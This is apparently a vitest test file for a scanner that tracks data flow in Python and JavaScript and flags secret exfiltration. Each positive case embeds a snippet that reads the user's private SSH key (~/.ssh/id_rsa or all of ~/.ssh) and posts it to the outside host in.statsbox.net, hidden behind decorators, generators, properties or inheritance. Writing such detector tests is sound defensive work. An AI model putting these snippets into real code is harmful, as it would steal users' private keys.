import { expect, test } from "vitest";
import { found } from "../../test-support/package-of";

const SENT = /(?:data|secret)-exfiltration/;
const sent = async (path: string, code: string) => (await found(path, code)).filter((one) => SENT.test(one));
const KEY = "open(os.path.expanduser('~/.ssh/id_rsa')).read()";

test.each([
  [
    "what `with` binds",
    `class Up:\n    def __enter__(self):\n        self.s = requests.Session()\n        return self\n    def __exit__(self, *a): pass\nwith Up() as up:\n    up.s.post("https://in.statsbox.net", data=${KEY})`,
  ],
  [
    "an object that is called",
    `class Send:\n    def __call__(self, data): requests.post("https://in.statsbox.net", data=data)\nSend()(${KEY})`,
  ],
  [
    "an object made by a method of its class",
    `class Snap:\n    @classmethod\n    def take(cls):\n        snap = cls()\n        snap.key = ${KEY}\n        return snap\n    def send(self): requests.post("https://in.statsbox.net", data=self.key)\nSnap.take().send()`,
  ],
  [
    "fields that a class without a constructor is given",
    `@dataclass\nclass Report:\n    key: str\n    def send(self): requests.post("https://in.statsbox.net", json=asdict(self))\nReport(key=${KEY}).send()`,
  ],
  [
    "a property",
    `class Box:\n    @property\n    def key(self): return ${KEY}\nbox = Box()\nrequests.post("https://in.statsbox.net", data=box.key)`,
  ],
  [
    "a decorator of the program's own",
    `def traced(fn):\n    def inner(*args):\n        out = fn(*args)\n        requests.post("https://in.statsbox.net", json={"out": out})\n        return out\n    return inner\n@traced\ndef load(): return ${KEY}\nload()`,
  ],
  [
    "a generator",
    `def keys():\n    for one in glob.glob(os.path.expanduser("~/.ssh/*")):\n        yield open(one).read()\nfor key in keys():\n    requests.post("https://in.statsbox.net", data=key)`,
  ],
  [
    "a method of the base that calls one of the class",
    `class Base:\n    def run(self): requests.post("https://in.statsbox.net", data=self.read())\nclass Keys(Base):\n    def read(self): return ${KEY}\nKeys().run()`,
  ],
  [
    "a method that the class calls on its base",
    `class Base:\n    def push(self, data): requests.post("https://in.statsbox.net", data=data)\nclass Keys(Base):\n    def push(self, data): super().push(data)\nKeys().push(${KEY})`,
  ],
])("follows Python data through %s", async (_, code) => {
  const imports = "import glob, os, requests\nfrom dataclasses import asdict, dataclass\n";
  expect(await sent("run.py", imports + code)).not.toEqual([]);
});

const READ = "require('fs').readFileSync(require('os').homedir() + '/.ssh/id_rsa', 'utf8')";

test.each([
  ["a getter", `class Box { get key() { return ${READ}; } }\nfetch("https://in.statsbox.net/" + new Box().key);`],
  [
    "a generator",
    `function* keys() { yield ${READ}; }\nfor (const key of keys()) fetch("https://in.statsbox.net", { method: "POST", body: key });`,
  ],
  [
    "a constructor of the base",
    `class Base { constructor(key) { this.key = key; } send() { fetch("https://in.statsbox.net/" + this.key); } }\nclass Up extends Base { constructor() { super(${READ}); } }\nnew Up().send();`,
  ],
])("follows JavaScript data through %s", async (_, code) => {
  expect(await sent("run.js", code)).not.toEqual([]);
});

test("keeps what a decorated function does not touch apart", async () => {
  const code = `import os, requests\ndef cached(fn):\n    def inner(*args): return fn(*args)\n    return inner\n@cached\ndef load(): return ${KEY}\n@cached\ndef ask(q): return requests.post("https://api.statsbox.net", json={"q": q}).json()\nload()\nprint(ask("hello"))\n`;
  expect(await sent("run.py", code)).toEqual([]);
});
